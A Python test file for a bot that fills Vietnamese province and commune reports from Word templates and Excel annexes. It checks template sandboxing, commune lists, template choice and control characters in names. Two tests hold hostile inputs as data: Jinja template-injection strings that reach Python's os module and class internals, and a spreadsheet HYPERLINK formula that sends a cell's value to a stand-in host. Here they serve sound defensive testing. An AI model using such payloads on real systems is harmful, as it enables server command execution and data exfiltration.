"""Report files as an attacker and an operator try them: a province's own template is a file
from outside, so it fills the report and nothing else (no Python internals, no commands)."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.report_files import TemplateError, check, packaged, render, sample_report
from bot.reports import xlsx as standings_xlsx
from tests.bot.reports_read import all_texts, edited, opened
from tests.bot.test_reports import long_board

UNIT = "bao-cao-don-vi.docx"
CLOSING = "Trên đây là báo cáo của "
# What a template could reach through Jinja's own globals in an unsandboxed environment: the
# os module, and with it any command on the server.
ESCAPE = "{{ cycler.__init__.__globals__.os.getcwd() }}"
INTERNALS = "{{ unit_name.__class__.__mro__[1].__subclasses__() }}"


@pytest.mark.parametrize("tag", [ESCAPE, INTERNALS])
def test_a_provinces_template_cannot_reach_python_internals(tmp_path: Path, tag: str) -> None:
    own = edited(packaged(UNIT), lambda xml: xml.replace(CLOSING, f"X{tag}X {CLOSING}"))
    (tmp_path / "don-vi.docx").write_bytes(own)
    with pytest.raises(TemplateError) as raised:
        rendered = render(sample_report(), tmp_path)
        # Without the sandbox the server's folder or Python's classes are printed.
        printed = next(t for t in all_texts(opened(rendered.docx)) if CLOSING in t)
        assert printed.startswith("XX"), printed[:80]
    assert raised.value.template == "don-vi.docx"
    assert check(own), "the check passed a template reading Python internals"


def test_a_province_without_communes_does_not_say_they_all_submitted() -> None:
    """A province set up before its communes: its report said "Không có xã trực thuộc." and,
    under the communes not submitted, "Tất cả các xã đã nộp báo cáo." (there are none)."""
    data = replace(sample_report(province=True), communes=(), not_submitted=())
    texts = [p.text for p in opened(render(data, None).docx).paragraphs]
    listed = texts.index("3. Các xã chưa nộp báo cáo kỳ này:")
    assert texts[listed + 1] == "Không có xã trực thuộc."
    assert "Tất cả các xã đã nộp báo cáo." not in texts


def test_a_name_typed_as_a_formula_is_text_in_the_annex() -> None:
    """Names come from the chat (a member types their own): one typed as a spreadsheet formula
    was written as a formula, which Excel runs when the province opens the annex (a link that
    sends the sheet's cells away)."""
    typed = '=HYPERLINK("http://x.example/?"&B9,"Nguyễn Văn An")'
    data = sample_report()
    assert data.standings is not None
    first = replace(data.standings.members[0], name=typed)
    data = replace(data, standings=replace(data.standings, members=(first,)))
    book = load_workbook(io.BytesIO(render(data, None).xlsx))
    found = [
        cell
        for row in book["Xếp hạng"].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert [(cell.value, cell.data_type) for cell in found] == [(typed, "s")]


def test_a_provinces_letterhead_for_its_communes_does_not_drop_its_own_communes(
    tmp_path: Path,
) -> None:
    """The guide says a province's `<CODE>.docx` serves its communes: made from `don-vi.docx`,
    it also served the province's own report, which then had no communes' results and no list
    of the communes that have not submitted. A province's own report reads `<CODE>-tinh.docx`."""
    letterhead = edited(packaged(UNIT), lambda xml: xml.replace(CLOSING, f"Tỉnh HY. {CLOSING}"))
    (tmp_path / "HY.docx").write_bytes(letterhead)
    province = sample_report(province=True)
    assert province.unit_codes == ("HY",)
    rendered = render(province, tmp_path)
    assert rendered.template == "packaged:bao-cao-tinh.docx"
    texts = all_texts(opened(rendered.docx))
    assert "VII. KẾT QUẢ CỦA CÁC XÃ" in texts and "- Xã Ứng Hòe" in texts
    assert render(sample_report(), tmp_path).template == "HY.docx"  # its communes' still
    own = edited(
        packaged("bao-cao-tinh.docx"), lambda xml: xml.replace(CLOSING, f"Riêng. {CLOSING}")
    )
    (tmp_path / "hy-tinh.docx").write_bytes(own)
    rendered = render(province, tmp_path)
    assert rendered.template == "hy-tinh.docx"
    assert any(t.startswith("Riêng. ") for t in all_texts(opened(rendered.docx)))


def test_the_standings_workbook_takes_a_name_typed_with_a_control_character() -> None:
    """The chat keeps control characters in a typed name; one stopped the standings workbook
    (/bangxephang's file) with openpyxl's IllegalCharacterError, as it stopped the annex."""
    board = long_board()
    typed = replace(board.members[0], name="Nguyễn\x08 Văn An")
    board = replace(board, members=[typed, *board.members[1:]])
    book = load_workbook(io.BytesIO(standings_xlsx(board, "vi")))
    names = [str(c.value) for row in book.worksheets[1].iter_rows() for c in row if c.value]
    assert "Nguyễn Văn An" in names
